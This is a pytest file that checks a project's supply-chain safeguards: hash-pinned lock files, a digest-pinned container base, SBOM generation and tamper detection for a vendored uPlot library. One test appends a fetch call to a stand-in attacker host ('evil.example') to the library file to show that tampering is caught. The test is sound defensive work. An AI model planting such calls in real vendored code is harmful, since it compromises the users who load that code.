"""What is tested is pinned by hash, and what a wheel carries is named in it."""

import importlib.util
import json
import re
import shutil
import sys
import tomllib
import types
from pathlib import Path

import pytest
from packaging.requirements import Requirement

ROOT = Path(__file__).parents[2]
PIN = re.compile(r"^(?P<name>[a-z0-9._-]+)==(?P<version>[^ ;\\]+)(?P<rest>(?:.*\\\n)+.*)", re.MULTILINE)
PYPROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text())
PROJECT, PROJECT_BUILD = PYPROJECT["project"], PYPROJECT["build-system"]


def pins(lock: str) -> dict[str, list[tuple[str, str]]]:
    """Version and hashes by name; a name has several versions where Pythons need others."""
    found: dict[str, list[tuple[str, str]]] = {}
    for pin in PIN.finditer((ROOT / "packaging" / lock).read_text()):
        found.setdefault(pin["name"], []).append((pin["version"], pin["rest"]))
    return found


@pytest.mark.parametrize(
    ("lock", "wanted"),
    [
        ("run.lock", PROJECT["dependencies"]),
        ("dev.lock", [*PROJECT["dependencies"], *PROJECT["optional-dependencies"]["dev"]]),
        ("dev.lock", PROJECT["optional-dependencies"]["rp2040"]),
    ],
)
def test_every_dependency_is_locked_to_a_version_that_is_allowed_by_hash(lock: str, wanted: list[str]) -> None:
    locked = pins(lock)
    for text in wanted:
        requirement = Requirement(text)
        name = re.sub(r"[-_.]+", "-", requirement.name).lower()
        if name == "warmflow":
            continue
        assert name in locked, f"{name}: make lock"
        for version, rest in locked[name]:
            assert requirement.specifier.contains(version, prereleases=True), f"{text}: make lock"
            assert rest.count("--hash=sha256:") >= 1


def test_what_the_container_runs_with_is_what_is_tested() -> None:
    tested = pins("dev.lock")
    for name, versions in pins("run.lock").items():
        assert {version for version, _ in versions} <= {version for version, _ in tested[name]}, name


@pytest.mark.parametrize("lock", ["run.lock", "dev.lock"])
def test_no_line_of_a_lock_is_without_a_hash(lock: str) -> None:
    text = (ROOT / "packaging" / lock).read_text()
    names = re.findall(r"^[a-z0-9]\S*", text, re.MULTILINE)
    assert len(names) == len(PIN.findall(text))
    assert "://" not in text


def test_the_container_is_built_on_one_base_by_its_digest() -> None:
    bases = re.findall(r"^FROM (\S+)", (ROOT / "packaging/Containerfile").read_text(), re.MULTILINE)
    assert len(bases) == 2
    assert len(set(bases)) == 1
    assert re.fullmatch(r"docker\.io/library/python:3\.13-slim@sha256:[0-9a-f]{64}", bases[0])


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The files that the build hook reads, and the hook."""
    interface = types.ModuleType("hatchling.builders.hooks.plugin.interface")
    interface.BuildHookInterface = object  # type: ignore[attr-defined]  # builds have hatchling, tests need not
    for name in ("hatchling", "hatchling.builders", "hatchling.builders.hooks", "hatchling.builders.hooks.plugin"):
        monkeypatch.setitem(sys.modules, name, types.ModuleType(name))
    monkeypatch.setitem(sys.modules, interface.__name__, interface)
    spec = importlib.util.spec_from_file_location("hatch_build", ROOT / "hatch_build.py")
    assert spec
    assert spec.loader
    hook = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hook)
    for folder in ("host/npm", "packaging"):
        shutil.copytree(ROOT / folder, tmp_path / folder)
    shutil.copytree(ROOT / hook.VENDOR, tmp_path / hook.VENDOR)
    return tmp_path, hook


def test_a_drawing_library_that_was_changed_is_noticed(checkout) -> None:
    root, hook = checkout
    assert hook._have(root)
    with (root / hook.VENDOR / "uPlot.esm.js").open("a") as file:
        file.write("fetch('//evil.example')")
    assert not hook._have(root)
    assert hook._changed(root) == ["uPlot.esm.js"]


def test_a_package_without_a_hash_is_not_fetched(checkout) -> None:
    root, hook = checkout
    lock = root / hook.PINS / "package-lock.json"
    content = json.loads(lock.read_text())
    del content["packages"]["node_modules/uplot"]["integrity"]
    lock.write_text(json.dumps(content))
    with pytest.raises(OSError, match="no integrity of node_modules/uplot"):
        hook.fetch(root)


def test_the_sbom_names_all_that_is_run(checkout) -> None:
    root, hook = checkout
    named = {one["name"]: one["purl"] for one in hook.sbom(root, "1.2.3")["components"]}
    assert named.keys() == pins("run.lock").keys() | {"uplot"}
    assert named["uplot"].startswith("pkg:npm/uplot@")
    assert hook.sbom(root, "1.2.3")["metadata"]["component"]["version"] == "1.2.3"


def test_a_wheel_is_built_with_the_sbom_and_an_editable_install_needs_none(checkout) -> None:
    root, hook = checkout
    builder = hook.AssetsHook()
    builder.root, builder.metadata = str(root), types.SimpleNamespace(version="1.2.3")
    built: dict[str, dict[str, object]] = {}
    for kind in ("standard", "editable"):
        built[kind] = {"force_include": {}, "sbom_files": []}
        builder.initialize(kind, built[kind])
    assert built["standard"]["sbom_files"] == [hook.SBOM]
    assert built["editable"]["sbom_files"] == []
    written = json.loads((root / hook.SBOM).read_text())
    assert written["bomFormat"] == "CycloneDX"
    assert {one["name"] for one in written["components"]} >= {"aiomqtt", "fastapi", "uplot"}
    minimum = [text for text in PROJECT_BUILD["requires"] if text.startswith("hatchling")]
    assert minimum == ["hatchling>=1.28"]  # the first that puts `sbom_files` into a wheel
